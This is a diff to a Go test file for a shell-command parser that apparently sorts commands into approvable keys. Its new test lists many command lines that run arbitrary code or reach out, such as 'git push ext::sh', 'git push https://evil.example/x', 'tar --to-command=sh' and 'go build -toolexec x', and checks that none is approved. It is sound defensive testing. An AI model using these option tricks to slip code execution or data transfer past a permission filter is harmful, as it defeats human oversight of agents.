@@ -100,6 +100,43 @@ func TestKeys(t *testing.T) {
 	}
 }
 
+// What is remembered by its name runs no code that its words name: only programs that are
+// known have a key, and only with words that are known.
+func TestWhatRunsCodeHasNoKey(t *testing.T) {
+	for _, line := range []string{
+		"python3.11 -c x", "python x", "nodejs x", "node20 -e x", "perl5.36 x", "ruby3.2 x", "php8.2 x", "lua5.4 x", "psql -c x", "mysql", "sqlite3 a.db '.shell x'", "Rscript x", "java -jar x", "julia x", "deno run x", "deno eval x", "bun x y", "bunx x",
+		"docker exec c sh", "docker run c", "podman exec c sh", "docker compose exec c sh", "kubectl exec p -- sh", "kubectl run x", "env X", "env X=1 ls", "busybox sh", "git bisect run x", "git submodule foreach x", "git rebase -x y main", "git rebase --exe y",
+		"git difftool -x y", "git filter-branch x", "git config core.pager x", "git -c x=y log", "git push --exe=x origin", "git push --receive-pac=x origin", "git fetch --upload-p=x origin", "git push ext::sh", "git push https://evil.example/x", "git push evil.example:x", "git pull /tmp/x", "git clone x", "git commit -F x --exec y",
+		"go run x.go", "go generate", "go test -exec=x ./...", "go test --exec x", "go vet -vettool=x", "go build -toolexec x", "go install x@latest", "go env -w GOFLAGS=-toolexec=x", "cargo run", "cargo test --config x", "cargo +nightly test", "cargo install x", "cargo xtask",
+		"npm install evil", "npm exec x", "npx x", "pnpm dlx x", "pnpm exec x", "yarn dlx x", "yarn node x", "yarn x", "yarn run node -e x", "bun run x", "npm run build --script-shell=./x", "npm test --script-sh ./x", "npm run x --prefix y", "npm run ./x", "pnpm test -C x", "pnpm test --config.script-shell=x",
+		"pip install x", "uv run x", "uvx x", "poetry run x", "pipx run x", "bundle exec x", "rake", "make", "just", "ninja", "cmake -P x", "ctest -S x", "mvn exec:exec", "mvn -f x test", "gradle -I x build", "./gradlew build", "gradle evil", "dotnet run", "dotnet test @x", "dotnet exec x", "tox", "nox",
+		"gdb x", "strace x", "watch x", "flock f x", "ssh h x", "scp a b", "find . -exec x {} +", "xargs x", "awk x", "sed -i e x", "vim x", "nvim x", "ex x", "less x", "man x", "screen x", "tmux x", "at now", "crontab x", "systemd-run x", "nsenter x", "terraform apply", "ansible all -m shell", "curl x", "wget x", "gh api x", "gh extension exec x", "gh alias set x",
+		"pytest -p x", "pytest -c x", "pytest @x", "eslint --rulesdir x", "eslint -f ./x", "prettier --plugin ./x", "tar xf a --to-command=sh", "tar -xIsh -f a", "tar --use-compress-prog=x -xf a", "rm -r x", "cp *x a", "cargo test *", "mypy --config-file x", "golangci-lint run", "unknown-program",
+	} {
+		p := Parse(line)
+		for _, c := range p.Commands {
+			if len(p.Commands) == 1 && c.Key != "" {
+				t.Errorf("%q: %q", line, c.Key)
+			}
+		}
+	}
+	for line, want := range map[string]string{
+		"npm run build --fast": "npm run build", "npm run test:unit -- --watch=false 'a b'": "npm run test:unit", "go test ./... -run 'A|B' -count=1": "go test", "go mod tidy": "go mod tidy", "cargo test -p x -- --nocapture": "cargo test",
+		"git commit -am 'a message'": "git commit", "git push -u origin feature/x": "git push", "git push origin main:main": "git push", "gh pr view 12 --json title": "gh pr view", "docker logs -f --tail 10 web": "docker logs", "pytest -q tests/a.py::TestX -k 'a and b'": "pytest",
+		"mkdir -p a/b": "mkdir", "tar xzf a.tgz -C b": "tar", "npm ci": "npm ci", "mvn -q clean test -Dtest=X": "mvn", "gofmt -l -w .": "gofmt",
+	} {
+		c := Parse(line).Commands
+		if got := c[len(c)-1].Key; got != want || !Keyed(want) {
+			t.Errorf("%q: %q (known: %v), want %q", line, got, Keyed(want), want)
+		}
+	}
+	for _, key := range []string{"", "python", "python3.11", "nodejs", "docker exec", "git bisect", "git submodule", "gh pr", "make", "npm run node", "curl", "tar x", "ls -l"} {
+		if Keyed(key) {
+			t.Errorf("%q is a key", key)
+		}
+	}
+}
+
 func TestChanges(t *testing.T) {
 	for line, want := range map[string]bool{
 		"rm x": true, "ls; rm x": true, "ls $(rm x)": true, "sudo rm x": true, "sh -c 'rm x'": true, "find . -delete": true, `find . -exec rm {} \;`: true, "ls > x": true, "git commit": true,
@@ -130,14 +167,16 @@ func TestDemands(t *testing.T) {
 
 func TestPaths(t *testing.T) {
 	for line, want := range map[string]string{
-		"cat a ../b /c": "a ../b /c", "grep foo a": "a", "grep -e foo a": "foo a", "grep -r /api src": "src", "grep -f/etc/x y": "/etc/x /etc/x y", "grep -f../x y": "/x ../x ../x y", "grep --file=../x y": "../x y",
-		"ls *.go": "*.go", "cat < ../x": "../x", "git log -- ../x": "../x", "git log main..dev": "", "git diff --no-index a b": "a b", "git diff /a /b": "/a /b", "echo /a": "", "echo /a/*": "/a/*",
+		"cat a ../b /c": "a ../b /c", "grep foo a": "a", "grep -e foo a": "a", "grep -r /api src": "src", "grep -f/etc/x y": "/etc/x y", "grep -f../x y": "../x y", "grep --file=../x y": "../x y",
+		"ls *.go": "*.go", "cat < ../x": "../x", "git log -- ../x": "../x", "git log main": "main", "git diff --no-index a b": "a b", "git diff /a /b": "/a /b", "echo /a": "", "echo /a/*": "/a/*",
 
 		// An option may have the pattern, or the name of a file, behind other letters.
-		"grep -ne. /c": "e. . /c", "rg -ie x /c": "e x /c", "egrep -he. /c": "e. . /c", "grep --reg=. /c": ". /c", "grep --exclude-from /c x a": "/c x a", "rg --ignore-file /c x a": "/c x a",
-		"grep -vf /c a": "f /c a", "grep -xFf /c a": "Ff f /c a", "rg -cf /c a": "f /c a", "grep -nfx a": "fx x a", "grep -n x a": "a", "grep -A5 x a": "5 a", "grep -A 5 x a": "5 x a",
-		"git grep -f/c x": "/c", "git grep -vf/c": "/c", "git grep -f c x": "c", "git -C d grep -vf c": "d/c", "git ls-files -oX/c": "/c", "git ls-files --exclude-f c": "c",
-		"git blame -S ../c x": "../c ../c", "git blame --ignore-revs-file=c x": "c", "git log -Sa/b": "", "git grep -- -fc": "",
+		"grep -ne. /c": "/c", "rg -ie x /c": "/c", "egrep -he. /c": "/c", "grep --reg=. /c": "/c", "grep --exclude-from /c x a": "/c a", "rg --ignore-file /c x a": "/c a",
+		"grep -vf /c a": "/c a", "grep -xFf /c a": "/c a", "rg -cf /c a": "/c a", "grep -nfx a": "x a", "grep -n x a": "a", "grep -A5 x a": "a", "grep -A 5 x a": "a", "grep x a -e /c": "/c x a",
+		"git grep -f/c x": "/c x", "git grep -vf/c": "/c", "git grep -f c x": "c x", "git -C d grep -vf c": "d/c", "git ls-files -oX/c": "/c", "git ls-files --exclude-from c": "c",
+		"git blame -S ../c x": "../c x", "git blame --ignore-revs-file=c x": "c x", "git log -Sa/b": "", "git grep -- -fc": "", "git grep x -- /c": "/c", "grep -nrwiclsxvf/etc/x y": "/etc/x y",
+		"sort --random-source -- -- -o": "-- -o", "jq --slurpfile a /c . b": "/c b", "find a -newer /c -name /d": "a /c", "find -name -- a": "", "ls -I /c a": "/c a", "head -n 1 a -n /c": "/c a", "sed -n 1p a": "a", "sed -n -e 1p a /c": "a /c",
+		"cat -- -x /c": "-x /c", "diff --from-file=/c a": "/c a", "realpath --relative-to /c a": "/c a", "date -r /c": "/c", "rg -f /c --files /d": "/c /d",
 	} {
 		var got []string
 		for _, c := range Parse(line).Commands {
